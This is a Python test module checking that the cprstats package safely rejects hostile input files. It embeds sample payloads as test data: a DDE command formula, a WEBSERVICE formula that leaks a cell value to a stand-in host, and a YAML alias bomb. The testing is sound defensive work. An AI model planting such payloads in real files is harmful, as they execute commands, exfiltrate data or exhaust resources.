"""Hostile inputs: whatever a coder or a stray file throws at the reader and the coder, the only
errors are cprstats' own, with a message that says what to do, and nothing is executed.

* A corpus of hostile files (``tests/data/hostile/``, all synthetic) with the exact error each
  must produce, listed in ``tests/data/hostile/manifest.yaml``.
* Property tests (hypothesis): arbitrary bytes, tables and YAML never raise anything but a
  `CprstatsError` subclass with a non-empty message.
* Resource limits: a 100 MB file is refused before it is read; a YAML "billion laughs" alias
  bomb does not exhaust memory or time.

Reference values: the expected messages are the package's own contract (cprstats/forms.py,
cprstats/coding.py, cprstats/guard.py); "billion laughs" is the entity-expansion attack of
CVE-2003-1564, here with YAML anchors; the 100 MB size is the figure in the project brief.
"""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
import tempfile
import textwrap
import tracemalloc
from pathlib import Path

import pandas as pd
import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import cprstats
import cprstats.io as safeio
from cprstats import errors

HOSTILE = Path(__file__).parents[1] / "data" / "hostile"
MANIFEST = yaml.safe_load((HOSTILE / "manifest.yaml").read_text(encoding="utf-8"))
PWNED = Path(tempfile.gettempdir()) / "cprstats-hostile-pwned"  # what python_tag*.yaml would create
ROOT = Path(__file__).resolve().parents[2]


def _call(case: dict):
    path = HOSTILE / case["file"]
    keep = tuple(case.get("keep_columns", ()))
    if case["call"] == "read_forms":
        return cprstats.read_forms(path, keep_columns=keep)
    return cprstats.code_reviews(path, keep_columns=keep)


def _params():
    for case in MANIFEST:
        marks = [pytest.mark.xfail(strict=True, reason=case["xfail"])] if case.get("xfail") else []
        yield pytest.param(case, id=case["file"], marks=marks)


# ------------------------------------------------------------------ the corpus
def test_manifest_lists_every_file_in_the_corpus():
    listed = {c["file"] for c in MANIFEST}
    present = {p.name for p in HOSTILE.iterdir() if p.name not in ("manifest.yaml", ".gitattributes")}
    assert present == listed
    assert all(c["call"] in ("read_forms", "code_reviews") for c in MANIFEST)


@pytest.mark.parametrize("case", list(_params()))
def test_hostile_file_gives_its_exact_error(case):
    cls = getattr(errors, case["raises"])
    PWNED.unlink(missing_ok=True)
    with pytest.raises(errors.CprstatsError) as info:
        _call(case)
    err = info.value
    assert type(err) is cls, f"{case['file']}: expected {cls.__name__}, got {type(err).__name__}: {err}"
    message = str(err)
    assert re.search(case["match"], message, re.S), f"{case['file']}: {message!r} does not match {case['match']!r}"
    if cls is errors.CodingError:
        assert list(err.problems.columns) == ["file", "row", "review_id", "field", "value", "problem"]
        assert set(case.get("fields", ())) <= set(err.problems["field"])
        dump = message + err.problems.to_csv()
        for secret in case.get("hidden", ()):
            assert secret not in dump, f"{case['file']}: the identifying value {secret!r} was echoed"
    assert not PWNED.exists(), "a YAML tag ran a command"


def test_python_tags_never_run(tmp_path):
    PWNED.unlink(missing_ok=True)
    for name in ("python_tag.yaml", "python_tag_folder"):
        with pytest.raises(errors.FormsError):
            cprstats.read_forms(HOSTILE / name)
    assert not PWNED.exists()


def test_formula_values_echoed_in_problems_are_neutralised_when_saved(tmp_path):
    with pytest.raises(errors.CodingError) as info:
        cprstats.code_reviews(HOSTILE / "formulas.csv")
    problems = info.value.problems
    assert "=cmd|' /C calc'!A0" in problems["value"].tolist()  # echoed as typed (not identifying) ...
    out = safeio.write_csv(problems, tmp_path / "problems.csv")
    saved = pd.read_csv(out, encoding="utf-8-sig", dtype=str, keep_default_na=False)
    # ... but saved so that no spreadsheet runs it (OWASP CSV injection: leading apostrophe)
    assert not any(v.startswith(safeio.FORMULA_TRIGGERS) for v in saved["value"] if not re.fullmatch(r"[+-]?\d+", v))
    assert "'=cmd|' /C calc'!A0" in saved["value"].tolist()


def test_formula_cells_in_xlsx_are_not_evaluated(tmp_path):
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.title = "coding"
    ws.append(["review_id", "child_no", "outcome"])
    ws.append(["CYSUR 1 2018", 1, '=WEBSERVICE("http://example.org/?leak="&A1)'])
    path = tmp_path / "formula.xlsx"
    wb.save(path)  # openpyxl stores a formula with no cached value
    forms = cprstats.read_forms(path)
    assert forms.loc[2, "outcome"] == ""  # what Excel last computed (nothing): never the formula run by us


# ------------------------------------------------------------------ resource limits
def _run_limited(code: str, *, seconds: float, memory_mb: int) -> subprocess.CompletedProcess:
    """Run ``code`` in a fresh interpreter with a time and address-space limit (POSIX)."""
    import resource

    def limit():
        cap = memory_mb * 2**20
        resource.setrlimit(resource.RLIMIT_AS, (cap, cap))

    return subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, timeout=seconds, preexec_fn=limit, cwd=ROOT
    )


YAML_BOMB = textwrap.dedent(
    """\
    a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]
    b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]
    c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]
    d: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]
    e: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d]
    f: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e]
    review_id: [*f, *f, *f, *f, *f, *f, *f, *f, *f]
    """
)


@pytest.mark.slow
@pytest.mark.skipif(os.name != "posix", reason="uses POSIX resource limits")
def test_yaml_alias_bomb_is_refused_quickly(tmp_path):
    bomb = tmp_path / "bomb.yaml"
    bomb.write_text(YAML_BOMB, encoding="utf-8")
    code = (
        "import cprstats\n"
        "try:\n"
        f"    cprstats.read_forms({str(bomb)!r})\n"
        "except cprstats.FormsError as e:\n"
        "    print('FormsError:', e)\n"
    )
    try:
        proc = _run_limited(code, seconds=10, memory_mb=1024)
    except subprocess.TimeoutExpired:
        pytest.fail("read_forms was still expanding the YAML aliases after 10 s")
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert proc.stdout.startswith("FormsError:")


def _write_big_csv(path: Path, size: int) -> None:
    from conftest import SMALL_FORMS

    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerows(zip(*SMALL_FORMS.values()))
    block = buf.getvalue().encode("utf-8") * 64
    with open(path, "wb") as fh:
        fh.write((",".join(SMALL_FORMS) + "\n").encode())
        written = 0
        while written < size:
            fh.write(block)
            written += len(block)


@pytest.mark.slow
def test_100_mb_file_is_refused_with_bounded_memory(tmp_path):
    import cprstats.forms.reader as forms_module

    size = 100 * 2**20
    if forms_module.MAX_FORM_BYTES >= size:
        pytest.xfail(
            f"read_forms accepts files up to {forms_module.MAX_FORM_BYTES / 2**20:.0f} MB; a 100 MB file takes ~1 GB "
            "and tens of seconds to read and minutes to code, so it should be refused (asked the lead to lower "
            "MAX_FORM_BYTES)"
        )
    path = tmp_path / "big.csv"
    _write_big_csv(path, size)
    for call in (cprstats.read_forms, cprstats.code_reviews):
        tracemalloc.start()
        try:
            with pytest.raises(errors.FormsError, match=r"larger than the \d+ MB allowed"):
                call(path)
            peak = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
        assert peak < 10 * 2**20, f"{call.__name__} used {peak / 2**20:.0f} MB before refusing"


def test_size_cap_also_applies_inside_a_yaml_folder(tmp_path, monkeypatch):
    import cprstats.forms.reader as forms_module

    monkeypatch.setattr(forms_module, "MAX_FORM_BYTES", 1000)
    folder = tmp_path / "forms"
    folder.mkdir()
    (folder / "a.yaml").write_text("review_id: CYSUR 1 2018\nnotes: " + "x" * 2000 + "\n", encoding="utf-8")
    tracemalloc.start()
    try:
        with pytest.raises(errors.FormsError, match="larger than"):
            cprstats.read_forms(folder)
        assert tracemalloc.get_traced_memory()[1] < 2 * 2**20
    finally:
        tracemalloc.stop()


# ------------------------------------------------------------------ property tests
CB = cprstats.load_codebook()
NAMES = [f.name for f in CB.input_fields] + [c for f in CB.multi_fields for c in f.option_columns][:20]
CODES = sorted(
    {c.value for f in CB.fields.values() for c in f.categories}
    | {c.label.en for f in CB.fields.values() for c in f.categories}
)
TEXT = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=25)
CELL = st.one_of(
    TEXT,
    st.sampled_from(CODES),
    st.integers(-(10**30), 10**30).map(str),
    st.sampled_from(["", "yes", "no", "none", "2019-03", "12/03/2019", "1e308", "nan", "=1+1", "-", ";", "\x00"]),
)
HEADER = st.lists(st.one_of(st.sampled_from(NAMES), TEXT.filter(lambda s: s.strip())), min_size=1, max_size=8)
# modest example counts keep the module fast (the coder costs ~0.1 s a call); CI runs them on every change
PROPERTY = settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def _check_only_own_errors(fn, *args, **kwargs):
    try:
        return fn(*args, **kwargs)
    except errors.CprstatsError as exc:
        assert str(exc).strip(), f"{type(exc).__name__} with an empty message"
        return None


@PROPERTY
@given(data=st.binary(max_size=3000), suffix=st.sampled_from([".csv", ".yaml", ".xlsx", ".yml"]))
def test_arbitrary_bytes_only_raise_own_errors(data, suffix):
    with tempfile.TemporaryDirectory() as d:
        path = Path(d) / f"forms{suffix}"
        path.write_bytes(data)
        forms = _check_only_own_errors(cprstats.read_forms, path)
        if forms is not None:
            _check_only_own_errors(cprstats.code_reviews, forms)


@PROPERTY
@given(
    header=HEADER,
    cells=st.lists(st.lists(CELL, min_size=8, max_size=8), min_size=0, max_size=5),
    bom=st.booleans(),
    crlf=st.booleans(),
)
def test_arbitrary_csv_tables_only_raise_own_errors(header, cells, bom, crlf):
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\r\n" if crlf else "\n")
    w.writerow(header)
    for row in cells:
        w.writerow(row[: len(header)])
    with tempfile.TemporaryDirectory() as d:
        path = Path(d) / "forms.csv"
        path.write_bytes(buf.getvalue().encode("utf-8-sig" if bom else "utf-8"))
        forms = _check_only_own_errors(cprstats.read_forms, path)
        if forms is not None:
            assert forms.index.name == "row"
            _check_only_own_errors(cprstats.code_reviews, forms)


YAML_VALUE = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=True), TEXT, st.sampled_from(CODES)),
    lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(TEXT, inner, max_size=3)),
    max_leaves=8,
)


@PROPERTY
@given(
    forms=st.one_of(
        st.dictionaries(st.one_of(st.sampled_from(NAMES), TEXT), YAML_VALUE, max_size=8),
        st.lists(st.dictionaries(st.sampled_from(NAMES), YAML_VALUE, max_size=6), max_size=3),
        YAML_VALUE,
    )
)
def test_arbitrary_yaml_forms_only_raise_own_errors(forms):
    with tempfile.TemporaryDirectory() as d:
        path = Path(d) / "form.yaml"
        path.write_text(yaml.safe_dump(forms, allow_unicode=True), encoding="utf-8")
        read = _check_only_own_errors(cprstats.read_forms, path)
        if read is not None:
            _check_only_own_errors(cprstats.code_reviews, read)


@settings(PROPERTY, max_examples=20)  # code_reviews runs on every example here
@given(
    header=HEADER, cells=st.lists(st.lists(st.one_of(CELL, st.none()), min_size=8, max_size=8), min_size=1, max_size=5)
)
def test_arbitrary_frames_only_raise_own_errors_in_coder_and_guard(header, cells):
    if len(set(header)) != len(header):
        header = list(dict.fromkeys(header))
    frame = pd.DataFrame([row[: len(header)] for row in cells], columns=header, dtype=object)
    frame.index = pd.RangeIndex(2, len(frame) + 2, name="row")
    frame.attrs["source"] = "forms.csv"
    problems = cprstats.find_identifiers(frame)
    assert list(problems.columns) == ["file", "row", "review_id", "field", "value", "problem"]
    _check_only_own_errors(cprstats.code_reviews, frame)
